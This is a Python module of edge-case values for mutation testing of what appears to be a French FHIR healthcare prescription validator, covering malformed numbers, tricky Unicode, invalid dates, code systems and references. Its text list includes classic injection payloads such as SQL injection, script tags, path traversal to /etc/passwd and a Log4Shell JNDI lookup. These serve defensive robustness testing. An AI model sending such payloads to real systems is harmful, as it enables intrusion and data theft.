"""The values that mutants carry where others were expected."""

from typing import Any

VALUES: list[Any] = [
    None, True, False, 0, -1, 1, 0.5, "", " ", "x", "1", [], [[]], {}, [{}], [None],
    {"url": "urn:x"},
    {"reference": "Patient/p1"}, [{"resourceType": "Patient"}], {"resourceType": "Bundle"},
    {"coding": []}, {"extension": [{"url": "urn:x", "valueString": "x"}]},
]  # fmt: skip

NUMBERS = [
    "1e999", "-1e999", "1e-999", "-0", "-0.0", "0.0", "1E+3", "1e3", "100e-2", "0.1",
    "1.0000000000", "123456789012345678901234567890", "0.000000000000000000000000000001",
    "9" * 400, "-1", "1e400000", "9007199254740993", "2147483648", "NaN", "Infinity", "-Infinity",
    "01", "+1", ".5", "1.", "0x10",
]  # fmt: skip

TEXTS = [
    "\u00e9", "e\u0301", "\u212b", "\u202e\u2066piège\u2069", "\u200b\u200d\ufeff",
    "\ufffe\uffff\U0010ffff", "🧪" * 50, "a" + "\u0301" * 300, "ﷺ" * 40, "\u0000", "\u0007",
    "\x7f", "\u2028\u2029", "\ud800", "\udc00\ud800", "'; DROP TABLE ordonnance; --",
    "<script>alert(1)</script>", "{{7*7}}", "%s%n", "../../etc/passwd",
    "${jndi:ldap://exemple.invalid/a}", "\t\n\r", "\u00a0", "\u3000",
    "ı İ ß ŉ", "١٢٣", "１２３", "Ⅻ", "𝟙", "#let x = 1", "*gras* _x_ `code` $x$ @ref",
]  # fmt: skip

DATES = [
    "0000-01-01", "2026-02-30", "2026-13-01", "2026-00-10", "9999-12-31", "10000-01-01", "2026",
    "2026-11", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "2026-06-30T23:59:60Z",
    "2026-03-02T09:30:00+15:00", "2026-03-02T09:30:00-15:00", "2026-03-02T09:30:00", "20260302",
    "2026-03-02T24:00:00Z", "2026-03-02T09:30:00.123456789123Z", "2026-03-02t09:30:00z",
    "2026-W10-1", "2026-3-2", " 2026-03-02", "٢٠٢٦-٠٣-٠٢",
    "2026-03-02T09:30:00+01:00[Europe/Paris]",
    "-2026-03-02", "1850-06-01",
]  # fmt: skip

SYSTEMS = [
    "", "urn:x", "http://snomed.info/sct", "http://unitsofmeasure.org",
    "urn:oid:1.2.250.1.213.1.4.8", "https://smt.esante.gouv.fr/terminologie-bdpm",
    "javascript:alert(1)", "urn:oid:", "HTTP://X", "a b",
]  # fmt: skip

REFERENCES = [
    "#", "#x", "Patient/absent", "urn:uuid:00000000-0000-0000-0000-000000000000", "Bundle/1", "/",
    "https://exemple.invalid/fhir/Patient/p1", "Patient/p1/_history/1", "Practitioner/", "x" * 3000,
]  # fmt: skip

CODES = ["", "x", "<", "a b", "A" * 300, "draft", "U1", "UD0000000000000000", "15054000"]
